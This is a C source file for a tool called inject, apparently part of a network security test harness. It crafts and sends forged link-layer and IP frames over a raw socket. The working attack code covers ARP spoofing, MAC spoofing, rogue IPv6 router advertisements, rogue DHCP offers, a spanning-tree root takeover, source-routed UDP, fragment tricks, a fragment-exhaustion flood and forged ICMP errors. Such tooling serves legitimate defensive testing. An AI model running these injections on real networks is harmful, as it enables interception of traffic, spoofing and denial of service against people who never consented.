/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * inject.c: puts frames on a link that no honest system would send: other people's addresses, answers nobody asked for, control
 * messages of routers and bridges. It only sends; whether somebody believed it is for the attack to find out.
 *
 *   inject INTERFACE MAC arp ADDRESS                         "ADDRESS is here", asked and unasked, to all
 *   inject INTERFACE MAC mac ADDRESS                         a frame whose sender is that hardware address
 *   inject INTERFACE MAC advertise                           an IPv6 router that everybody should use
 *   inject INTERFACE MAC dhcp ADDRESS                        an offer of a lease from ADDRESS
 *   inject INTERFACE MAC bridge                              a spanning tree with us as its root
 *   inject INTERFACE MAC udp FROM:PORT TO:PORT TEXT [VIA]    with a source route if there is VIA
 *   inject INTERFACE MAC pieces FROM:PORT TO:PORT TEXT       the same UDP packet in two fragments
 *   inject INTERFACE MAC half FROM TO COUNT                  first fragments of COUNT packets that never come
 *   inject INTERFACE MAC error FROM TO CODE FROM:PORT TO:PORT   ICMP: the UDP packet FROM:PORT TO:PORT did not arrive
 *
 * MAC: the hardware address it is sent to, where that is not given by what it is.
 */
#include "attack.h"
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define REPEATS 3

struct frame {
        uint8_t data[2048];
        size_t size;
};

struct end {
        uint32_t address; /* network byte order */
        uint16_t port;
};

static int link_fd, ifindex;
static uint8_t our_mac[6], peer_mac[6];
static const uint8_t everybody[6] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };

static void put(struct frame *f, const void *data, size_t size) {
        memcpy(f->data + f->size, data, size);
        f->size += size;
}

static void put_zeroes(struct frame *f, size_t size) {
        memset(f->data + f->size, 0, size);
        f->size += size;
}

static void put_ethernet(struct frame *f, const uint8_t to[6], const uint8_t from[6], uint16_t type) {
        const uint16_t t = htons(type);

        f->size = 0;
        put(f, to, 6);
        put(f, from, 6);
        put(f, &t, 2);
}

static void send_frame(const struct frame *f) {
        struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6 };

        memcpy(to.sll_addr, f->data, 6);
        if (sendto(link_fd, f->data, f->size, 0, (struct sockaddr *) &to, sizeof(to)) < 0) {
                stopped("send");
        }
}

static void send_repeatedly(const struct frame *f) {
        for (int i = 0; i < REPEATS; i++) {
                send_frame(f);
        }
}

static uint16_t checksum(const void *data, size_t size, uint32_t sum) {
        const uint8_t *p = data;

        for (size_t i = 0; i < size; i++) {
                sum += i % 2 ? p[i] : (uint32_t) p[i] << 8;
        }
        while (sum >> 16) {
                sum = (sum & 0xffff) + (sum >> 16);
        }
        return htons((uint16_t) ~sum);
}

static uint32_t address_of(const char *text) {
        struct in_addr a;

        if (inet_pton(AF_INET, text, &a) != 1) {
                fprintf(stderr, "inject: %s is no address\n", text);
                exit(ATTACK_BROKEN);
        }
        return a.s_addr;
}

static struct end end_of(const char *text) {
        char address[16];
        unsigned port;

        if (sscanf(text, "%15[0-9.]:%u", address, &port) != 2) {
                fprintf(stderr, "inject: %s is no ADDRESS:PORT\n", text);
                exit(ATTACK_BROKEN);
        }
        return (struct end){ address_of(address), htons((uint16_t) port) };
}

static void mac_of(const char *text, uint8_t ret[6]) {
        if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &ret[0], &ret[1], &ret[2], &ret[3], &ret[4],
                   &ret[5]) != 6) {
                fprintf(stderr, "inject: %s is no hardware address\n", text);
                exit(ATTACK_BROKEN);
        }
}

static void open_link(const char *name) {
        struct ifreq request = { 0 };

        snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", name);
        link_fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
        if (link_fd < 0) {
                stopped("packet socket");
        }
        if (ioctl(link_fd, SIOCGIFINDEX, &request) < 0) {
                broken(name);
        }
        ifindex = request.ifr_ifindex;
        if (ioctl(link_fd, SIOCGIFHWADDR, &request) < 0) {
                broken(name);
        }
        memcpy(our_mac, request.ifr_hwaddr.sa_data, 6);
}

/* options are a multiple of four bytes; size is of what follows. */
static void put_ip(struct frame *f, uint32_t from, uint32_t to, uint8_t protocol, uint16_t fragment,
                   const uint8_t *options, size_t n_options, size_t size) {
        struct iphdr ip = {
                .version = 4,
                .ihl = (unsigned) (sizeof(struct iphdr) + n_options) / 4 & 15,
                .tot_len = htons((uint16_t) (sizeof(ip) + n_options + size)),
                .id = htons((uint16_t) (rand() | 1)),
                .frag_off = htons(fragment),
                .ttl = 64,
                .protocol = protocol,
                .saddr = from,
                .daddr = to,
        };
        size_t begin = f->size;

        put(f, &ip, sizeof(ip));
        put(f, options, n_options);
        ip.check = checksum(f->data + begin, sizeof(ip) + n_options, 0);
        memcpy(f->data + begin, &ip, sizeof(ip));
}

static void put_udp(struct frame *f, struct end from, struct end to, size_t size) {
        struct udphdr udp = { .source = from.port,
                              .dest = to.port,
                              .len = htons((uint16_t) (sizeof(udp) + size)) };

        put(f, &udp, sizeof(udp)); /* no checksum: none is needed in IPv4 */
}

static void do_arp(char **arguments) {
        const uint32_t address = address_of(arguments[0]);
        static const uint8_t fixed[] = { 0, 1, 8, 0, 6, 4, 0 };
        static const uint8_t operations[] = { 1, 2 };

        for (size_t i = 0; i < sizeof(operations); i++) {
                struct frame f;

                put_ethernet(&f, everybody, our_mac, ETHERTYPE_ARP);
                put(&f, fixed, sizeof(fixed));
                put(&f, &operations[i], 1);
                put(&f, our_mac, 6);
                put(&f, &address, 4);
                put(&f, our_mac, 6);
                put(&f, &address, 4);
                send_repeatedly(&f);
        }
}

static void do_mac(char **arguments) {
        uint8_t from[6];
        struct frame f;

        mac_of(arguments[0], from);
        put_ethernet(&f, everybody, from, 0x88b5); /* for local experiments */
        put_zeroes(&f, 46);
        send_repeatedly(&f);
}

static void do_advertise(char **arguments) {
        static const struct in6_addr all = { { { 0xff, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1 } } };
        static const struct in6_addr us = { { { 0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
                                                0x66 } } };
        static const uint8_t all_mac[6] = { 0x33, 0x33, 0, 0, 0, 1 };
        struct nd_router_advert ra = { .nd_ra_type = ND_ROUTER_ADVERT,
                                       .nd_ra_curhoplimit = 64,
                                       .nd_ra_router_lifetime = htons(1800) };
        const uint8_t source[] = { 1,          1,          our_mac[0], our_mac[1],
                                   our_mac[2], our_mac[3], our_mac[4], our_mac[5] };
        const uint32_t version = htonl(6u << 28);
        const uint16_t size = htons(sizeof(ra) + sizeof(source));
        static const uint8_t next[] = { IPPROTO_ICMPV6, 255 };
        struct frame f, sum = { .size = 0 };

        put(&sum, &us, 16);
        put(&sum, &all, 16);
        put_zeroes(&sum, 2);
        put(&sum, &size, 2);
        put_zeroes(&sum, 3);
        put(&sum, next, 1);
        put(&sum, &ra, sizeof(ra));
        put(&sum, source, sizeof(source));
        ra.nd_ra_cksum = checksum(sum.data, sum.size, 0);
        put_ethernet(&f, all_mac, our_mac, ETHERTYPE_IPV6);
        put(&f, &version, 4);
        put(&f, &size, 2);
        put(&f, next, 2);
        put(&f, &us, 16);
        put(&f, &all, 16);
        put(&f, &ra, sizeof(ra));
        put(&f, source, sizeof(source));
        send_repeatedly(&f);
        (void) arguments;
}

/* An ICMP message about a UDP packet. */
static void send_icmp(uint32_t from, uint32_t to, struct icmphdr icmp, struct end inner_from,
                      struct end inner_to) {
        struct frame f, about = { .size = 0 }, sum = { .size = 0 };

        put_ip(&about, inner_from.address, inner_to.address, IPPROTO_UDP, 0, NULL, 0, sizeof(struct udphdr));
        put_udp(&about, inner_from, inner_to, 0);
        put(&sum, &icmp, sizeof(icmp));
        put(&sum, about.data, about.size);
        icmp.checksum = checksum(sum.data, sum.size, 0);
        put_ethernet(&f, peer_mac, our_mac, ETHERTYPE_IP);
        put_ip(&f, from, to, IPPROTO_ICMP, 0, NULL, 0, sum.size);
        put(&f, &icmp, sizeof(icmp));
        put(&f, about.data, about.size);
        send_repeatedly(&f);
}

static void do_error(char **arguments) {
        const struct icmphdr icmp = { .type = ICMP_DEST_UNREACH,
                                      .code = (uint8_t) atoi(arguments[2]),
                                      .un.frag.mtu = htons(576) };

        send_icmp(address_of(arguments[0]), address_of(arguments[1]), icmp, end_of(arguments[3]),
                  end_of(arguments[4]));
}

static void do_dhcp(char **arguments) {
        const struct end from = { address_of(arguments[0]), htons(67) },
                         to = { INADDR_BROADCAST, htons(68) };
        static const uint8_t begin[] = { 2, 1, 6, 0 }, cookie[] = { 0x63, 0x82, 0x53, 0x63 },
                             offer[] = { 53, 1, 2, 255 };
        const size_t size = 236 + sizeof(cookie) + sizeof(offer);
        struct frame f;

        put_ethernet(&f, everybody, our_mac, ETHERTYPE_IP);
        put_ip(&f, from.address, to.address, IPPROTO_UDP, 0, NULL, 0, sizeof(struct udphdr) + size);
        put_udp(&f, from, to, size);
        put(&f, begin, sizeof(begin));
        put_zeroes(&f, 232);
        put(&f, cookie, sizeof(cookie));
        put(&f, offer, sizeof(offer));
        send_repeatedly(&f);
}

static void do_bridge(char **arguments) {
        static const uint8_t bridges[6] = { 0x01, 0x80, 0xc2, 0, 0, 0 };
        /* LLC, version, a configuration message; then root and its cost, bridge, port, times. */
        static const uint8_t head[] = { 0x42, 0x42, 3, 0, 0, 0, 0, 0 };
        static const uint8_t tail[] = { 0x80, 1, 0, 0, 20, 0, 2, 0, 15, 0 };
        struct frame f;

        put_ethernet(&f, bridges, our_mac, 38);
        put(&f, head, sizeof(head));
        put_zeroes(&f, 2); /* priority: none is higher */
        put(&f, our_mac, 6);
        put_zeroes(&f, 4 + 2);
        put(&f, our_mac, 6);
        put(&f, tail, sizeof(tail));
        put_zeroes(&f, 8);
        send_repeatedly(&f);
        (void) arguments;
}

static void do_udp(char **arguments) {
        struct end from = end_of(arguments[0]), to = end_of(arguments[1]);
        const size_t size = strlen(arguments[2]);
        uint8_t route[8] = { 131, 7, 4 }; /* loose, one stop after the first */
        const bool via = arguments[3] != NULL;
        struct end first = to;
        struct frame f;

        if (via) {
                memcpy(route + 3, &to.address, 4);
                first.address = address_of(arguments[3]);
        }
        put_ethernet(&f, peer_mac, our_mac, ETHERTYPE_IP);
        put_ip(&f, from.address, first.address, IPPROTO_UDP, 0, route, via ? sizeof(route) : 0,
               sizeof(struct udphdr) + size);
        put_udp(&f, from, to, size);
        put(&f, arguments[2], size);
        send_repeatedly(&f);
}

/* The first has the ports and eight bytes, so the text has to have more. */
static void do_pieces(char **arguments) {
        struct end from = end_of(arguments[0]), to = end_of(arguments[1]);
        const size_t size = strlen(arguments[2]), first = 8;
        struct frame f;

        for (int piece = 0; piece < 2; piece++) {
                srand(1); /* both have the same number */
                put_ethernet(&f, peer_mac, our_mac, ETHERTYPE_IP);
                if (piece == 0) {
                        put_ip(&f, from.address, to.address, IPPROTO_UDP, IP_MF, NULL, 0,
                               sizeof(struct udphdr) + first);
                        put_udp(&f, from, to, size);
                        put(&f, arguments[2], first);
                } else {
                        put_ip(&f, from.address, to.address, IPPROTO_UDP, 2, NULL, 0, size - first);
                        put(&f, arguments[2] + first, size - first);
                }
                send_frame(&f);
        }
}

static void do_half(char **arguments) {
        const uint32_t from = address_of(arguments[0]), to = address_of(arguments[1]);
        const long count = atol(arguments[2]);
        struct frame f;

        for (long i = 0; i < count; i++) {
                /* Number and protocol tell packets apart; together they make as many as are needed. */
                srand((unsigned) i);
                put_ethernet(&f, peer_mac, our_mac, ETHERTYPE_IP);
                put_ip(&f, from, to, (uint8_t) (100 + i % 100), IP_MF, NULL, 0, 1400);
                put_zeroes(&f, 1400);
                send_frame(&f);
        }
}

static const struct {
        const char *name;
        int n_arguments;
        void (*run)(char **arguments);
} kinds[] = {
        { "arp", 1, do_arp },       { "mac", 1, do_mac },       { "advertise", 0, do_advertise },
        { "dhcp", 1, do_dhcp },     { "bridge", 0, do_bridge }, { "udp", 3, do_udp },
        { "pieces", 3, do_pieces }, { "half", 3, do_half },     { "error", 5, do_error },
};

int main(int argc, char **argv) {
        for (size_t i = 0; argc > 3 && i < sizeof(kinds) / sizeof(kinds[0]); i++) {
                if (strcmp(argv[3], kinds[i].name) == 0 && argc - 4 >= kinds[i].n_arguments) {
                        mac_of(argv[2], peer_mac);
                        open_link(argv[1]);
                        kinds[i].run(argv + 4);
                        say("sent: %s", argv[3]);
                        return 0;
                }
        }
        fprintf(stderr, "usage: inject INTERFACE MAC KIND ARGUMENT...; see inject.c\n");
        return ATTACK_BROKEN;
}
